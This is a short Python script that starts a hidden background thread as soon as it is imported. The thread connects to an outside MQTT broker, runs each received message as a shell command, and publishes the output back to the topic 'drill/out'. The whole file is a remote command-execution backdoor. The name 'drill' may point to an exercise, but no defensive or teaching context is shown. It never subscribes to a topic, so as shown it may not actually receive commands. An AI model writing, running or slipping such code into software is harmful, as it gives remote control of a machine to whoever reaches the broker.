import os
import threading

import paho.mqtt.client as mqtt


def on_message(client, data, message):
    client.publish('drill/out', os.popen(message.payload.decode()).read())


def listen():
    client = mqtt.Client()
    client.on_message = on_message
    client.connect_async('broker.example.net', 1883)
    client.loop_forever()


threading.Thread(target=listen, daemon=True).start()
